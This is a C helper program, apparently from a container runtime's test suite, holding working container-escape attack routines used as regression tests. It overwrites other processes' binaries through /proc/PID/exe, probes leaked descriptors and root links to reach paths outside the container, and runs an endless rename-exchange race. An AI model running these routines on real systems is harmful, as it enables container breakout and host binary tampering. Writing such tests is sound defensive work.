/*
 * What tests of tswarm-runtime need and a shell cannot do: attacks that need speed, and the receiving
 * side of a console socket. Built static by the test, so that it runs inside containers too.
 *
 *   exe          open other processes' /proc/PID/exe, and write the file once it is no longer busy
 *   fds MARK     look for descriptors of other processes that lead to a folder with MARK in or above it
 *   swap A B     exchange two names for ever
 *   console S    listen on S, receive a terminal, write "hello\n" into it, print what comes out
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static int try_write(int fd)
{
	char path[64];
	int w;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 2000; i++) {
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			if (write(w, "PWNED", 5) == 5)
				printf("WROTE\n");
			close(w);
			return 1;
		}
		if (errno != ETXTBSY)
			return 0;
		usleep(50);
	}
	return 0;
}

static void attack_exe(void)
{
	char path[300], link[4096];
	long opened = 0;

	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		while (proc && (e = readdir(proc)) != NULL) {
			int pid = atoi(e->d_name), fd;
			ssize_t n;

			if (pid <= 1 || pid == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			/* what was opened, not what the process runs by now */
			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			n = readlink(path, link, sizeof(link) - 1);
			link[n > 0 ? n : 0] = '\0';
			if (!strstr(link, "busybox") && !strstr(link, "helper")) {
				if (opened++ == 0) {
					printf("OPENED %s\n", link);
					fflush(stdout);
				}
				try_write(fd);
				fflush(stdout);
			}
			close(fd);
		}
		if (proc)
			closedir(proc);
	}
}

static void attack_fds(const char *mark)
{
	char path[300], deep[400];

	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		while (proc && (e = readdir(proc)) != NULL) {
			int pid = atoi(e->d_name);

			if (pid <= 1 || pid == getpid())
				continue;
			for (int fd = -2; fd < 48; fd++) {
				struct stat st;

				if (fd == -2)
					snprintf(path, sizeof(path), "/proc/%d/root", pid);
				else if (fd == -1)
					snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
				else
					snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
				for (int up = 0; up < 6; up++) {
					snprintf(deep, sizeof(deep), "%s/%.*s%s", path, up * 3, "../../../../../../", mark);
					if (stat(deep, &st) == 0) {
						printf("REACHED %s\n", deep);
						fflush(stdout);
					}
				}
			}
		}
		if (proc)
			closedir(proc);
	}
}

static int serve_console(const char *path)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	char control[CMSG_SPACE(sizeof(int))], text[4096];
	struct iovec iov = { text, sizeof(text) };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
			      .msg_controllen = sizeof(control) };
	int s = socket(AF_UNIX, SOCK_STREAM, 0), c, master;
	ssize_t n;

	strncpy(a.sun_path, path, sizeof(a.sun_path) - 1);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 1) < 0)
		return 1;
	c = accept(s, NULL, NULL);
	if (c < 0 || recvmsg(c, &msg, 0) <= 0 || !CMSG_FIRSTHDR(&msg))
		return 1;
	memcpy(&master, CMSG_DATA(CMSG_FIRSTHDR(&msg)), sizeof(int));
	if (write(master, "hello\n", 6) != 6)
		return 1;
	while ((n = read(master, text, sizeof(text))) > 0)
		if (write(1, text, (size_t)n) != n)
			return 1;
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "exe") == 0)
		attack_exe();
	if (argc == 3 && strcmp(argv[1], "fds") == 0)
		attack_fds(argv[2]);
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		for (;;)
			renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE);
	if (argc == 3 && strcmp(argv[1], "console") == 0)
		return serve_console(argv[2]);
	return 2;
}
